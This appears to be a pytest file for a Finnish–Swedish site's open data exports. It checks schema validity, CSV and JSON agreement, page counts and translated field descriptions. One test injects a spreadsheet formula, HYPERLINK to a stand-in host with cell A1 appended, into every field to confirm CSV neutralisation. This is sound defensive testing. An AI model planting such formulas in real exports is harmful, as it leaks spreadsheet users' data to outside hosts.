"""Open data: the exports parse, validate against their schema, agree with each other and with the
counts the site shows (home page, hubs, the Avoin data page)."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from html import unescape
from pathlib import Path

import jsonschema
import pytest
from browser.hostile import write_hostile_tree
from conftest import FIXTURE_SITE
from every_field import fill_tree, hostile_for
from renamed import renamed_content

from generator.pipeline import build_pages, check
from generator.site import editions, opendata, plan


@pytest.fixture(scope="module")
def exported(real_site: Path):
    data = real_site / "data"
    return {
        "json": json.loads((data / "practices.json").read_text(encoding="utf-8")),
        "csv": list(
            csv.DictReader(io.StringIO((data / "practices.csv").read_text(encoding="utf-8"), newline=""))
        ),
        "schema": json.loads((data / "schema.json").read_text(encoding="utf-8")),
    }


def test_json_validates_against_the_published_schema(exported):
    jsonschema.Draft202012Validator.check_schema(exported["schema"])
    jsonschema.validate(exported["json"], exported["schema"], cls=jsonschema.Draft202012Validator)


def test_schema_refuses_an_entry_that_does_not_fit(exported):
    broken = [dict(exported["json"][0], kind="kommentti")]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, exported["schema"], cls=jsonschema.Draft202012Validator)


def test_one_row_per_entry_in_both_files(real_index, exported):
    ids = [e.id for e in real_index.examples + real_index.themes]
    assert [row["id"] for row in exported["json"]] == ids
    assert [row["id"] for row in exported["csv"]] == ids
    assert list(exported["csv"][0]) == opendata.csv_columns()


def test_csv_says_what_json_says(exported):
    for row, line in zip(exported["json"], exported["csv"], strict=True):
        for key, value in row.items():
            if key == "annotation":
                for name, inner in (value or dict.fromkeys(opendata.ExportAnnotation.model_fields)).items():
                    assert line[f"annotation_{name}"] == opendata._cell(inner), (row["id"], name)
            elif isinstance(value, list):
                assert line[key] == opendata.neutralise("; ".join(value)), (row["id"], key)
            else:
                assert line[key] == ("" if value is None else opendata.neutralise(str(value))), (
                    row["id"],
                    key,
                )


def test_vocabulary_ids_come_with_their_labels(real_index, exported):
    labels = real_index.labels
    for row in exported["json"]:
        for ids, names, vocabulary in [
            ("sectors", "sector_labels", "sectors"),
            ("applicant_types", "applicant_type_labels", "applicant_types"),
            ("themes", "theme_labels", "themes"),
            ("quality_standards", "quality_standard_labels", "quality_standards"),
            ("priorities", "priority_labels", "priorities"),
        ]:
            if row[ids] is not None:
                assert row[names] == [labels.of(vocabulary)[i] for i in row[ids]], (row["id"], ids)


def test_every_url_is_a_page_of_the_site(exported, real_site: Path):
    for row in exported["json"]:
        assert (real_site / row["url"] / "index.html").is_file(), row["url"]


def text(html: str) -> str:
    return " ".join(unescape(re.sub(r"<[^>]+>", "", html)).split())


def strong_number(html: str, words: str) -> int:
    found = [text(bold) for bold in re.findall(r"<strong>(.*?)</strong>", html, re.S)]
    numbers = [int(bold.split()[0]) for bold in found if bold.endswith(f" {words}")]
    assert len(numbers) == 1, (words, found)
    return numbers[0]


def test_counts_match_the_home_page_and_the_open_data_page(exported, real_site: Path):
    kinds = Counter(row["kind"] for row in exported["json"])
    application_quotes = sum(1 for row in exported["json"] if row["origin"] == "hakemus")
    home = (real_site / "index.html").read_text(encoding="utf-8")
    assert strong_number(home, "lainausta hakemuksista") == application_quotes
    assert strong_number(home, "tavoite–mittari-esimerkkiä") == kinds["tavoite"]
    assert strong_number(home, "teemaa") == kinds["teema"]
    page = text((real_site / "avoin-data" / "index.html").read_text(encoding="utf-8"))
    assert (
        f"Aineistossa on {len(exported['json'])} merkintää: {kinds['lainaus']} lainausta "
        f"(joista {application_quotes} akkreditointihakemuksista), {kinds['tavoite']} "
        f"tavoite–mittari-esimerkkiä ja {kinds['teema']} teemaa"
    ) in page


@pytest.mark.parametrize(
    "vocabulary,folder,field",
    [("sectors", "sektorit", "sectors"), ("applicant_types", "hakijatyypit", "applicant_types")],
)
def test_counts_match_the_hubs(
    real_index, exported, real_site: Path, vocabulary: str, folder: str, field: str
):
    examples = [row for row in exported["json"] if row["kind"] != "teema"]
    hub = (real_site / folder / "index.html").read_text(encoding="utf-8")
    for term in [*(t.id for t in getattr(real_index.content.vocabularies, vocabulary)), "ei-mainittu"]:
        rows = [r for r in examples if (term in r[field] if term != "ei-mainittu" else not r[field])]
        quotes = sum(1 for r in rows if r["kind"] == "lainaus")
        pairs = len(rows) - quotes
        cells = re.search(
            rf'<a href="{term}/">[^<]*</a></td>\s*<td>.*?</td>\s*<td[^>]*>(\d+)</td>\s*<td[^>]*>(\d+)</td>',
            hub,
            re.S,
        )
        assert cells, term
        assert (int(cells.group(1)), int(cells.group(2))) == (quotes, pairs), term
        page = text((real_site / folder / term / "index.html").read_text(encoding="utf-8"))
        assert f"Lainaukset ({quotes})¶" in page, term
        assert f"Tavoitteet ja mittarit ({pairs})¶" in page, term


def test_the_open_data_page_explains_every_field(real_site: Path):
    page = (real_site / "avoin-data" / "index.html").read_text(encoding="utf-8")
    for field in opendata.fields():
        assert f"<code>{field.name}</code>" in page, field.name
        assert f"<code>{field.column}</code>" in page, field.column
        assert field.description, field.name
    for name in ("practices.json", "practices.csv", "schema.json"):
        assert f'href="../data/{name}"' in page
    assert "ei mainita sen lisenssiä" in page


def test_exports_are_the_same_bytes_on_every_build(fixture_site: Path):
    """The open data and the statistics chart of the fixture tree, built twice: here, and in the
    run's shared build of it (``conftest.fixture_site``, in another process or earlier)."""
    first = build_pages(FIXTURE_SITE).files
    assert first == {path: (fixture_site / path).read_bytes() for path in first}
    # The exports, the plan page's data and the search's synonyms and themes (generator/search/synonyms.py),
    # and the same under the Swedish edition's prefix, where its pages link to them.
    own = {
        opendata.JSON_FILE,
        opendata.CSV_FILE,
        opendata.SCHEMA_FILE,
        "assets/charts/hakemukset-2020.svg",
        plan.PLAN_FILE,
        "haku/synonyymit.json",
        "haku/teemat.json",
    }
    assert set(first) == own | {"sv/" + path for path in own}


def test_the_open_data_carries_the_swedish_texts_where_they_are_given():
    rows = {row.id: row for row in opendata.entries(check(FIXTURE_SITE).index)}
    assert (rows["osallisuus"].title_sv, rows["osallisuus"].summary_sv) == (
        "Delaktighet",
        "Alla har möjlighet att delta.",
    )
    assert rows["osallisuus"].guidance_sv is not None and rows["osallisuus"].guidance_sv.startswith("Ansökan")
    assert (
        rows["kaikki-mukaan"].title_sv == "Alla med i mobiliteten"
        and rows["kaikki-mukaan"].summary_sv is None
    )
    assert rows["kaikki-mukaan"].url_sv == "sv/lainaukset/kaikki-mukaan/"


def test_null_means_not_this_kind_and_empty_means_not_stated(tmp_path: Path):
    rows = {row.id: row for row in opendata.entries(check(renamed_content(tmp_path / "content")).index)}
    assert rows["osallistujamaarat"].sectors == [] and rows["osallistujamaarat"].text is None
    assert rows["osallisuus"].sectors is None and rows["osallisuus"].priorities == [
        "osallisuus-ja-monimuotoisuus"
    ]
    assert rows["viestimme-avoimesti"].former_ids == ["viestimme-verkossa"]
    assert rows["viestimme-avoimesti"].url == "lainaukset/viestimme-avoimesti/"


def test_the_json_export_is_indented_utf8_json_of_every_entry():
    files = build_pages(FIXTURE_SITE).files
    data = files[opendata.JSON_FILE]
    rows = opendata.entries(check(FIXTURE_SITE).index)
    # A reader opening the file sees plain JSON with letters, not \u escapes, two-space indents.
    assert data == (
        json.dumps(opendata.EXPORT.dump_python(rows, mode="json"), ensure_ascii=False, indent=2) + "\n"
    ).encode("utf-8")
    assert "ä".encode() in data and b"\\u00e4" not in data


def test_a_kind_has_one_public_name_in_the_finder_the_search_and_the_open_data(exported, real_site: Path):
    """The finder's 'laji' filter, the search records and the open data's 'kind' say the same."""
    finder = (real_site / "haku" / "index.html").read_text(encoding="utf-8")
    choices = re.findall(r'<input type="checkbox" name="laji" value="([^"]+)"', finder)
    assert choices == ["lainaus", "tavoite", "teema"]
    assert {row["kind"] for row in exported["json"]} == set(choices)
    assert set(opendata.KindId.__args__) == set(choices)


def test_the_open_data_page_names_the_former_kind_of_a_pair(real_site: Path):
    page = text((real_site / "avoin-data" / "index.html").read_text(encoding="utf-8"))
    assert "Aiemmin aineistossa oli arvo tavoite-ja-mittari" in page


TEXT_COLUMNS = {
    "title",
    "text",
    "context",
    "objective",
    "indicator",
    "summary",
    "guidance",
    "sector_labels",
    "applicant_type_labels",
    "theme_labels",
    "quality_standard_labels",
    "priority_labels",
    "source_title",
    "source_publisher",
    "source_sections",
    "guidance_sections",
    "annotation_note",
    "title_sv",
    "summary_sv",
    "guidance_sv",
}
NOT_TEXT = {
    "id": "tunniste",
    "kind": "vakioarvo",
    "url": "tunnisteesta",
    "url_sv": "tunnisteesta",
    "former_ids": "tunnisteita",
    "origin": "vakioarvo",
    "sectors": "tunnisteita",
    "applicant_types": "tunnisteita",
    "themes": "tunnisteita",
    "quality_standards": "tunnisteita",
    "priorities": "tunnisteita",
    "source_document": "tunniste",
    "source_year": "luku",
    **{f"annotation_{name}": "totuusarvo tai vakioarvo" for name in opendata.ExportAnnotation.model_fields},
}
"""Columns that cannot hold free text: ids, fixed values, numbers, truth values."""
NOT_TEXT.pop("annotation_note")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_is_a_formula_and_json_keeps_the_exact_text(tmp_path, start):
    """Every text field of every kind begins like a spreadsheet formula: no column of the CSV
    passes it on as one (OWASP: a leading apostrophe), and the JSON has the text as written."""
    root = write_hostile_tree(tmp_path / "content")
    formula = start + 'HYPERLINK("https://example.invalid/?"&A1, "napsauta")'
    fill_tree(root, lambda f: hostile_for(f, formula), start + "Luku")
    result = check(root)
    assert result.problems == [], result.problems
    files = opendata.files(result.index)
    text = files[opendata.CSV_FILE].decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    neutralised = set()
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(opendata.FORMULA_STARTS), (column, cell[:30])
            if cell.startswith("'" + start):
                neutralised.add(column)
    assert set(opendata.csv_columns()) == TEXT_COLUMNS | set(NOT_TEXT), "a new column: which kind is it?"
    assert neutralised == TEXT_COLUMNS
    exported = json.loads(files[opendata.JSON_FILE])
    quote = next(row for row in exported if row["kind"] == "lainaus")
    assert quote["title"] == formula and quote["text"] == formula


# --- the fields in each edition's language ------------------------------------------------------


def descriptions(node, where: str = "") -> dict[str, str]:
    """Every description of a JSON Schema by where it stands."""
    found: dict[str, str] = {}
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "description" and isinstance(value, str):
                found[where] = value
            else:
                found |= descriptions(value, f"{where}/{key}")
    elif isinstance(node, list):
        for i, value in enumerate(node):
            found |= descriptions(value, f"{where}/{i}")
    return found


def without_descriptions(node):
    if isinstance(node, dict):
        return {k: without_descriptions(v) for k, v in node.items() if k not in ("description", "title")}
    if isinstance(node, list):
        return [without_descriptions(v) for v in node]
    return node


def test_each_edition_describes_every_field_in_its_own_language():
    """The Swedish schema is the Finnish one with every description in Swedish: the same fields
    and types (the same practices.json, the same CSV columns), none left in Finnish."""
    finnish, swedish_ = opendata.schema(editions.FI), opendata.schema(editions.SV)
    assert without_descriptions(finnish) == without_descriptions(swedish_)
    fi, sv = descriptions(finnish), descriptions(swedish_)
    assert set(fi) == set(sv)
    entry = finnish["$defs"]["ExportEntry"]["properties"]
    assert {f"/$defs/ExportEntry/properties/{name}" for name in entry} <= set(fi)  # every field
    assert [where for where in fi if fi[where] == sv[where]] == []
    assert not any("description_" in key for key in json.dumps([finnish, swedish_]).split('"'))
    columns = [n for n in entry if n != "annotation"]
    columns += [f"annotation_{n}" for n in finnish["$defs"]["ExportAnnotation"]["properties"]]
    assert columns == opendata.csv_columns()
    for row_fi, row_sv in zip(opendata.fields(editions.FI), opendata.fields(editions.SV), strict=True):
        assert (row_fi.name, row_fi.column) == (row_sv.name, row_sv.column)
        assert row_sv.description and row_sv.description != row_fi.description


def test_the_swedish_edition_publishes_its_schema_and_the_same_data(real_site: Path):
    for name in (opendata.JSON_FILE, opendata.CSV_FILE):
        assert (real_site / "sv" / name).read_bytes() == (real_site / name).read_bytes()
    published = json.loads((real_site / "sv" / opendata.SCHEMA_FILE).read_text(encoding="utf-8"))
    assert published == opendata.schema(editions.SV)
    data = json.loads((real_site / "sv" / opendata.JSON_FILE).read_text(encoding="utf-8"))
    jsonschema.validate(data, published, cls=jsonschema.Draft202012Validator)


def test_the_swedish_open_data_page_explains_every_field_in_swedish(real_site: Path):
    page = (real_site / "sv" / "avoin-data" / "index.html").read_text(encoding="utf-8")
    for field in opendata.fields(editions.SV):
        row = re.search(rf"<tr>\s*<td><code>{re.escape(field.name)}</code></td>.*?</tr>", page, re.S)
        assert row, field.name
        assert unescape(re.sub(r"<[^>]+>", "", row.group(0))).count(field.description) == 1, field.name
        assert 'lang="fi"' not in row.group(0), field.name
